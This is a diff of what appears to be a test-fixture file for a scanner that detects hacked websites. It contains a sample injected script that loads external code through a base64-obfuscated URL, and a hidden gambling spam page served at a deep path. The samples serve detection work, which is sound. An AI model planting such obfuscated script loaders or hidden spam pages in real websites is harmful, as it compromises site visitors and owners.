@@ -358,7 +358,7 @@ _JS = [
         elementor(
             "Dinas Perikanan",
             head='<script type="text/javascript" async src="https://cdn-analytic-track.top/j.php?k=9d8f"></script><script>'
-            + f"(function(){{var s=document.createElement('script');s.src=atob('{base64.b64encode(b'https://statstrack.xyz/jq.js').decode()}');document.head.appendChild(s)}})();</script>",
+            f"(function(){{var s=document.createElement('script');s.src=atob('{base64.b64encode(b'https://statstrack.xyz/jq.js').decode()}');document.head.appendChild(s)}})();</script>",
         ),
     ),
     _hid(
@@ -465,7 +465,7 @@ _PATHS = [
         "deep path",
         _HOME,
         paths={
-            "/assets/": f"<html><head><title>Rimba777 : Agen Game Terpercaya</title></head><body><h1>Rimba777</h1><img src=//img.rimba777.fun/banner.webp><p>Bonus new member 100, rollingan 0,8 persen, buyspin termurah.</p><a href=https://rimba777.fun/daftar>DAFTAR</a><a href=https://rimba777.fun/login>LOGIN</a></body></html>"
+            "/assets/": "<html><head><title>Rimba777 : Agen Game Terpercaya</title></head><body><h1>Rimba777</h1><img src=//img.rimba777.fun/banner.webp><p>Bonus new member 100, rollingan 0,8 persen, buyspin termurah.</p><a href=https://rimba777.fun/daftar>DAFTAR</a><a href=https://rimba777.fun/login>LOGIN</a></body></html>"
         },
     ),
     _hid(
